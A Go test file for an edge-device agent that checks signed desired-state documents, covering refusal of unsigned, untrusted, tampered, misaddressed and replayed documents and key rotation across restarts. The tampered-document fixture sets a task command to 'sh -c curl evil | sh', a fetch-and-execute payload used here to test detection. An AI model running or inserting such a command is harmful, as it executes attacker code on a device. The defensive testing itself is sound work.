package edged

import (
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/tether-edge/tether/edged/driver"
	"github.com/tether-edge/tether/edged/fake"
	"github.com/tether-edge/tether/protocol"
)

// storedGeneration is the generation of the desired document in edged.db.
func storedGeneration(t *testing.T, ra *runningAgent) uint64 {
	t.Helper()
	d, err := ra.a.state.desired()
	if err != nil || d == nil {
		t.Fatalf("stored desired: %v, %v", d, err)
	}
	return d.Generation
}

// runningIDs are the instance ids running on the fake runtime.
func runningIDs(t *testing.T, rt *fake.Driver, device string) []string {
	t.Helper()
	var ids []string
	for _, i := range runningOf(t, rt, device) {
		ids = append(ids, i.ID)
	}
	return ids
}

// TestDesiredSignatures: a signed document from the pinned key is applied;
// every document that is unsigned, signed by an untrusted key, tampered
// with, addressed to another device or older than the applied one is
// refused (stored document and workload stay, the refusal is in the report
// and in one desired_refused event each), and a re-delivery of the applied
// document is silently ignored. A newer good document clears the refusal.
func TestDesiredSignatures(t *testing.T) {
	t.Parallel()
	r := newFleetRig(t)
	const dev = "s1"
	cfg, rt := r.deviceConfig(dev, t.TempDir())
	cfg.PlannerKeys = testPlannerKeys()
	r.addDevice(dev, "pw")
	cfg.Username, cfg.Password = dev, "pw"
	ra := startAgent(t, cfg)

	gen1 := sign(t, oneAlloc(dev, 1, "web"), testPlannerKey)
	r.publish(dev, gen1)
	r.waitApplied(dev, 1)
	before := runningIDs(t, rt, dev)
	if len(before) != 1 {
		t.Fatalf("running %v, want one instance", before)
	}
	gen1Raw, _ := protocol.Encode(gen1)
	// The retained document again, as on every reconnect: nothing to say.
	r.publishRaw(dev, gen1Raw)

	tampered := sign(t, oneAlloc(dev, 3, "evil"), testPlannerKey)
	tampered.Allocations[0].Tasks[0].Config.Command = []string{"sh", "-c", "curl evil | sh"}
	cases := []struct {
		name string
		doc  protocol.Desired
		want string
	}{
		{"unsigned", oneAlloc(dev, 2, "evil"), "refused desired generation 2: desired document is not signed"},
		{"untrusted key", sign(t, oneAlloc(dev, 3, "evil"), otherKey), "refused desired generation 3: desired document is signed by a key this device does not trust (key " + protocol.KeyID(pub(otherKey)) + ")"},
		{"tampered", tampered, "refused desired generation 3: desired document signature does not verify"},
		{"chain from an untrusted key", sign(t, oneAlloc(dev, 4, "evil"), newTestKey(3), protocol.Endorse(otherKey, pub(newTestKey(3)))), "does not trust"},
		{"another device", sign(t, oneAlloc("s2", 5, "evil"), testPlannerKey), `refused desired generation 5: addressed to device "s2", not to this one`},
	}
	for i, c := range cases {
		// Twice, as the retained copy comes again on every reconnect: one
		// event per refused document, not per delivery.
		r.publish(dev, c.doc)
		r.publish(dev, c.doc)
		eventually(t, c.name+": a desired_refused event", func() bool { return len(r.refusals(dev)) >= i+1 })
		ev := r.refusals(dev)
		if len(ev) != i+1 {
			t.Fatalf("%s: %d refusals, want %d (a re-delivery or an earlier case said something twice): %+v", c.name, len(ev), i+1, ev)
		}
		if !strings.Contains(ev[i].Message, c.want) {
			t.Errorf("%s: event message %q, want it to contain %q", c.name, ev[i].Message, c.want)
		}
		eventually(t, c.name+": the refusal in the report", func() bool {
			rep, _ := r.report(dev)
			return strings.Contains(rep.Error, c.want)
		})
		rep, _ := r.report(dev)
		if rep.ObservedGeneration != 1 {
			t.Errorf("%s: observed generation %d, want 1", c.name, rep.ObservedGeneration)
		}
		if g := storedGeneration(t, ra); g != 1 {
			t.Fatalf("%s: stored generation %d, want 1: a refused document was stored", c.name, g)
		}
		if now := runningIDs(t, rt, dev); len(now) != 1 || now[0] != before[0] {
			t.Fatalf("%s: running %v, want the first workload %v untouched", c.name, now, before)
		}
	}

	// Replay: after generation 6 is applied, the signed generation 1 is
	// sent again (a rollback attempt with a genuine old document).
	r.publish(dev, sign(t, oneAlloc(dev, 6, "web2"), testPlannerKey))
	r.waitApplied(dev, 6)
	if rep, _ := r.report(dev); rep.Error != "" {
		t.Errorf("report error %q after a good document, want none", rep.Error)
	}
	r.publishRaw(dev, gen1Raw)
	want := "refused desired generation 1: older than the applied generation 6"
	eventually(t, "the replay refused", func() bool {
		ev := r.refusals(dev)
		return len(ev) == len(cases)+1 && ev[len(cases)].Message == want
	})
	eventually(t, "the replay's refusal in the report", func() bool {
		rep, _ := r.report(dev)
		return rep.Error == want && rep.ObservedGeneration == 6
	})
	if g := storedGeneration(t, ra); g != 6 {
		t.Fatalf("stored generation %d after the replay, want 6", g)
	}
}

// TestKeyRotationSurvivesRestart: a document signed by a new planner key,
// carrying the endorsement of the pinned key, is accepted and the new key
// stored; after an edged restart configured with the old key only, a
// document signed by the new key without any chain is accepted too.
func TestKeyRotationSurvivesRestart(t *testing.T) {
	t.Parallel()
	r := newFleetRig(t)
	const dev = "rot1"
	dir := t.TempDir()
	cfg, _ := r.deviceConfig(dev, dir)
	cfg.PlannerKeys = testPlannerKeys()
	r.addDevice(dev, "pw")
	cfg.Username, cfg.Password = dev, "pw"
	next := newTestKey(9)
	ra := startAgent(t, cfg)
	r.publish(dev, sign(t, oneAlloc(dev, 1, "web"), next, protocol.Endorse(testPlannerKey, pub(next))))
	r.waitApplied(dev, 1)
	keys, err := ra.a.state.plannerKeys()
	if err != nil || len(keys) != 1 || !keys[0].Equal(pub(next)) {
		t.Fatalf("stored planner keys %v (%v), want the endorsed key", keyIDs(keys), err)
	}
	ra.stop()

	cfg, rt := r.deviceConfig(dev, dir)
	cfg.PlannerKeys = testPlannerKeys()
	cfg.Username, cfg.Password = dev, "pw"
	ra = startAgent(t, cfg)
	r.publish(dev, sign(t, oneAlloc(dev, 2, "web2"), next))
	rep := r.waitApplied(dev, 2)
	if rep.Error != "" || len(r.refusals(dev)) != 0 {
		t.Fatalf("report error %q, refusals %+v", rep.Error, r.refusals(dev))
	}
	if ids := runningIDs(t, rt, dev); len(ids) != 1 {
		t.Fatalf("running %v, want generation 2's one instance", ids)
	}
}

// TestAcceptUnsigned: the insecure opt-in takes unsigned documents but
// still refuses a signature that does not verify.
func TestAcceptUnsigned(t *testing.T) {
	t.Parallel()
	r := newFleetRig(t)
	const dev = "u1"
	cfg, _ := r.deviceConfig(dev, t.TempDir())
	cfg.PlannerKeys = testPlannerKeys()
	cfg.AcceptUnsigned = true
	r.addDevice(dev, "pw")
	cfg.Username, cfg.Password = dev, "pw"
	startAgent(t, cfg)
	r.publish(dev, oneAlloc(dev, 1, "web"))
	r.waitApplied(dev, 1)
	r.publish(dev, sign(t, oneAlloc(dev, 2, "web"), otherKey))
	eventually(t, "the wrongly signed document refused", func() bool { return len(r.refusals(dev)) == 1 })
	if rep, _ := r.report(dev); rep.ObservedGeneration != 1 {
		t.Fatalf("observed generation %d, want 1", rep.ObservedGeneration)
	}
}

// TestNoPlannerKeyRefusesToStart: without a key configured or stored, an
// enrollment to come or the insecure opt-in, edged does not start, and
// says which flags would fix it.
func TestNoPlannerKeyRefusesToStart(t *testing.T) {
	t.Parallel()
	log := zerolog.New(zerolog.NewTestWriter(t))
	base := func(dir string) Config {
		return Config{DeviceID: "k1", Brokers: []string{"mqtt://127.0.0.1:1"}, DataDir: dir, Drivers: []driver.Driver{fake.New(fake.Options{})}, Log: log}
	}
	dir := t.TempDir()
	err := RunDaemon(context.Background(), DaemonConfig{Config: base(dir), FakeRuntime: true})
	if err == nil {
		t.Fatal("RunDaemon started without any planner key")
	}
	for _, flag := range []string{"--planner-key", "--planner-key-file", "--enroll-token", "--insecure-accept-unsigned"} {
		if !strings.Contains(err.Error(), flag) {
			t.Errorf("error %q does not name %s", err, flag)
		}
	}
	ok := map[string]func(*Config){
		"configured key":  func(c *Config) { c.PlannerKeys = testPlannerKeys() },
		"accept unsigned": func(c *Config) { c.AcceptUnsigned = true },
		"enroll token":    func(c *Config) { c.EnrollToken = "0123456789ab.c2VjcmV0" },
	}
	for name, set := range ok {
		c := base(t.TempDir())
		set(&c)
		a, err := New(c)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		a.state.close()
	}
	// A key learned earlier (stored in edged.db) is enough.
	st, err := openState(filepath.Join(dir, "edged.db"))
	if err != nil {
		t.Fatal(err)
	}
	if err := st.addPlannerKeys(testPlannerKeys(), time.Now()); err != nil {
		t.Fatal(err)
	}
	st.close()
	a, err := New(base(dir))
	if err != nil {
		t.Fatalf("with a stored key: %v", err)
	}
	a.state.close()
	// Enrolled already, with a token still configured: no enrollment is
	// due, so the token does not stand in for a key.
	dir = t.TempDir()
	st, err = openState(filepath.Join(dir, "edged.db"))
	if err != nil {
		t.Fatal(err)
	}
	if err := st.putIdentity(identity{Username: "k1", Password: "pw"}, nil, time.Now()); err != nil {
		t.Fatal(err)
	}
	st.close()
	c := base(dir)
	c.EnrollToken = "0123456789ab.c2VjcmV0"
	if a, err := New(c); err == nil {
		a.state.close()
		t.Fatal("enrolled, no key, token given: started anyway")
	}
}
